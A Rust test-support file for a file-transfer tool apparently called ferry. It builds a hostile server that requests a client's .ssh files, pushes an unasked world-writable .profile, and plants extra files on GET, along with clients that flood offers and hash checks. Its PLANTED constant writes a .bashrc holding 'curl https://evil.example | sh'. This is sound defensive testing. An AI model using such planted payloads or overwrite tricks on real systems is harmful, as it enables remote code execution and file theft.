//! A hostile ferry server holding the right key: it asks its clients for their files (LIST,
//! GET, RECORD), pushes files nobody asked for, and answers a GET with extra files planted
//! beside the requested one, asking to overwrite them world-writable. Clients must refuse all
//! of it and still get what they asked for.

use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::path::Path;
use std::sync::{Arc, Mutex};
use std::thread::JoinHandle;
use std::time::{Duration, Instant as WallClock};

use proto::RecordFormat;
use proto::{Config, Event, FileHasher, FileMeta, Instant, PeerRequestId, Psk, Session};

/// What the hostile server saw from its client.
#[derive(Debug, Default, Clone)]
pub struct Seen {
    /// Paths the client tried to push to us (a client doing `get` must never offer anything).
    pub offered_to_us: Vec<String>,
    /// Our requests (list / get / record) and how the client answered each.
    pub requests_answered: Vec<(String, Option<proto::Problem>)>,
    /// Our offers and whether the client took them (`Ok` = accepted).
    pub offers: Vec<(String, Result<(), proto::Problem>)>,
    /// Listing entries the client sent us.
    pub listed: Vec<String>,
    /// The session ended cleanly.
    pub clean_end: bool,
}

/// The planted files: (path, content); each asks for `overwrite` and mode 0777.
pub const PLANTED: &[(&str, &[u8])] = &[
    (".bashrc", b"curl https://evil.example | sh\n"),
    ("evil/planted.sh", b"#!/bin/sh\necho pwned\n"),
];

/// A hostile server on 127.0.0.1 serving one connection.
pub struct HostileServer {
    pub addr: SocketAddr,
    thread: Option<JoinHandle<()>>,
    seen: Arc<Mutex<Seen>>,
}

impl HostileServer {
    /// Listen with the key file at `key`; for a GET of any name it answers `served` (as the
    /// requested name) plus [`PLANTED`], and it pushes an unsolicited `.profile`.
    pub fn start(key: &Path, served: &'static [u8]) -> HostileServer {
        let bytes = ferry_cli::keyfile::load(key).unwrap();
        let psk = Psk::from_key_bytes(&bytes);
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = listener.local_addr().unwrap();
        let seen = Arc::new(Mutex::new(Seen::default()));
        let log = seen.clone();
        let thread = std::thread::spawn(move || {
            let (stream, _) = listener.accept().unwrap();
            serve(stream, &psk, served, &log);
        });
        HostileServer {
            addr,
            thread: Some(thread),
            seen,
        }
    }

    /// Wait for the connection to end (bounded) and return what the server saw.
    pub fn finish(mut self) -> Seen {
        if let Some(t) = self.thread.take() {
            t.join().unwrap();
        }
        self.seen.lock().unwrap().clone()
    }
}

struct Out {
    name: String,
    data: &'static [u8],
    pos: usize,
    started: bool,
}

/// Drive `s` over `stream` until it closes, `limit` passes or `step` says stop. `step` runs
/// after each round of input with the events that came, then output is written.
pub fn drive(
    stream: &mut TcpStream,
    s: &mut Session,
    origin: WallClock,
    limit: Duration,
    mut step: impl FnMut(&mut Session, Vec<Event>) -> bool,
) {
    let now = || Instant::from_micros(origin.elapsed().as_micros() as u64);
    stream
        .set_read_timeout(Some(Duration::from_millis(20)))
        .unwrap();
    let mut inbox = Vec::new();
    let mut out = vec![0u8; proto::MAX_RECORD];
    let mut buf = vec![0u8; 65536];
    while origin.elapsed() < limit && !s.is_closed() {
        match stream.read(&mut buf) {
            Ok(0) => {
                let _ = s.handle_eof(now());
                return;
            }
            Ok(n) => inbox.extend_from_slice(&buf[..n]),
            Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {}
            Err(_) => return,
        }
        while !inbox.is_empty() {
            match s.handle_input(now(), &mut inbox) {
                Ok(0) | Err(_) => break,
                Ok(n) => {
                    inbox.drain(..n);
                }
            }
        }
        s.handle_timeout(now());
        let events = std::iter::from_fn(|| s.poll_event()).collect();
        if !step(s, events) {
            return;
        }
        loop {
            match s.poll_transmit(now(), &mut out) {
                Ok(0) | Err(_) => break,
                Ok(n) => {
                    if stream.write_all(&out[..n]).is_err() {
                        return;
                    }
                }
            }
        }
    }
}

/// A client holding the key that keeps offering `name` (`size` bytes) with a wrong hash, so
/// the server must compare against the existing file again and again, until `limit`.
pub fn flood_hash_checks(addr: SocketAddr, key: &Path, name: &str, size: u64, limit: Duration) {
    let psk = Psk::from_key_bytes(&ferry_cli::keyfile::load(key).unwrap());
    let origin = WallClock::now();
    let mut stream = TcpStream::connect(addr).unwrap();
    let mut s = Session::client(&Config::default(), &psk, [9; 32], Instant::ZERO);
    drive(&mut stream, &mut s, origin, limit, |s, events| {
        for ev in events {
            if let Event::Accepted { id, .. } = ev {
                let _ = s.abort(id, proto::Problem::new(proto::Reason::Cancelled, "flood"));
            }
        }
        loop {
            let mut meta = FileMeta::new(name, Some(size));
            meta.hash = Some([0x5a; 32]);
            if s.offer(meta).is_err() {
                return true;
            }
        }
    });
}

fn serve(mut stream: TcpStream, psk: &Psk, served: &'static [u8], seen: &Mutex<Seen>) {
    let origin = WallClock::now();
    let mut s = Session::server(&Config::default(), psk, [7; 32], Instant::ZERO);
    let mut chunk = vec![0u8; proto::CHUNK];
    let mut sending: std::collections::BTreeMap<proto::SendId, Out> = Default::default();
    let mut requests: std::collections::BTreeMap<proto::RequestId, String> = Default::default();
    let mut asked = false;
    drive(
        &mut stream,
        &mut s,
        origin,
        Duration::from_secs(15),
        |s, events| {
            for ev in events {
                // The hostile script.
                let mut seen = seen.lock().unwrap();
                match ev {
                    Event::Connected if !asked => {}
                    Event::Offered { id, meta, .. } => {
                        seen.offered_to_us.push(meta.path);
                        let _ = s.reject(id, proto::Problem::new(proto::Reason::Denied, "no"));
                    }
                    Event::GetRequested { req, path } => {
                        answer_get(s, req, &path, served, &mut sending);
                    }
                    Event::ListRequested { req, .. } => {
                        let _ = s.finish_request(req, None);
                    }
                    Event::Accepted { id, resume_from: _ } => {
                        if let Some(o) = sending.get_mut(&id) {
                            o.pos = s.start(id, FileHasher::new()).unwrap_or(0) as usize;
                            o.started = true;
                        }
                    }
                    Event::Rejected { id, problem } => {
                        if let Some(o) = sending.remove(&id) {
                            seen.offers.push((o.name, Err(problem)));
                        }
                    }
                    Event::Delivered { id, .. } => {
                        if let Some(o) = sending.remove(&id) {
                            seen.offers.push((o.name, Ok(())));
                        }
                    }
                    Event::DeliveryFailed { id, problem } => {
                        if let Some(o) = sending.remove(&id) {
                            seen.offers.push((o.name, Err(problem)));
                        }
                    }
                    Event::Listing { entries, .. } => {
                        seen.listed.extend(entries.into_iter().map(|e| e.path));
                    }
                    Event::RequestDone { req, error } => {
                        let what = requests.remove(&req).unwrap_or_default();
                        seen.requests_answered.push((what, error));
                    }
                    Event::Closed { .. } => seen.clean_end = true,
                    _ => {}
                }
            }
            // As soon as the client is in: ask for its files and push one it never asked for.
            if s.is_connected() && !asked {
                asked = true;
                for (what, r) in [
                    ("list", s.list("")),
                    ("get .ssh", s.get(".ssh")),
                    ("get .", s.get("")),
                    (
                        "record",
                        s.send_record(RecordFormat::Json, br#"{"x":1}"#.to_vec()),
                    ),
                ] {
                    requests.insert(r.unwrap(), what.to_string());
                }
                let mut meta = FileMeta::new(".profile", Some(5));
                meta.mode = Some(0o777);
                meta.overwrite = true;
                if let Ok(id) = s.offer(meta) {
                    sending.insert(
                        id,
                        Out {
                            name: ".profile".into(),
                            data: b"evil\n",
                            pos: 0,
                            started: false,
                        },
                    );
                }
            }
            // File bytes.
            for (id, o) in sending.iter_mut() {
                if !o.started || o.pos > o.data.len() {
                    continue;
                }
                let n = (o.data.len() - o.pos)
                    .min(s.send_capacity())
                    .min(chunk.len());
                chunk[..n].copy_from_slice(&o.data[o.pos..o.pos + n]);
                let took = s.write(*id, &chunk[..n]).unwrap_or(0);
                o.pos += took;
                if o.pos == o.data.len() && s.finish(*id).is_ok() {
                    o.pos = o.data.len() + 1;
                }
            }
            true
        },
    );
}

/// Answer a GET with the requested name, then plant more beside it (overwrite, 0777).
fn answer_get(
    s: &mut Session,
    req: PeerRequestId,
    path: &str,
    served: &'static [u8],
    sending: &mut std::collections::BTreeMap<proto::SendId, Out>,
) {
    let mut files: Vec<(String, &'static [u8])> = vec![(path.to_string(), served)];
    files.extend(PLANTED.iter().map(|(p, d)| (p.to_string(), *d)));
    for (name, data) in files {
        let mut meta = FileMeta::new(&name, Some(data.len() as u64));
        meta.mode = Some(0o777);
        meta.overwrite = true;
        if let Ok(id) = s.offer_for(req, meta) {
            sending.insert(
                id,
                Out {
                    name,
                    data,
                    pos: 0,
                    started: false,
                },
            );
        }
    }
    let _ = s.finish_request(req, None);
}

/// A client holding the key that offers `files` small files (1 000 bytes each, names under
/// `prefix`) as fast as the server lets it and never sends a byte of them, holding every
/// accepted one open until `limit`.
pub fn flood_offers(addr: SocketAddr, key: &Path, prefix: &str, files: usize, limit: Duration) {
    let psk = Psk::from_key_bytes(&ferry_cli::keyfile::load(key).unwrap());
    let origin = WallClock::now();
    let Ok(mut stream) = TcpStream::connect(addr) else {
        return;
    };
    let mut s = Session::client(&Config::default(), &psk, [3; 32], Instant::ZERO);
    let mut next = 0;
    drive(&mut stream, &mut s, origin, limit, |s, _events| {
        while next < files {
            let meta = FileMeta::new(&format!("{prefix}/{next}"), Some(1_000));
            if s.offer(meta).is_err() {
                break;
            }
            next += 1;
        }
        true
    });
}
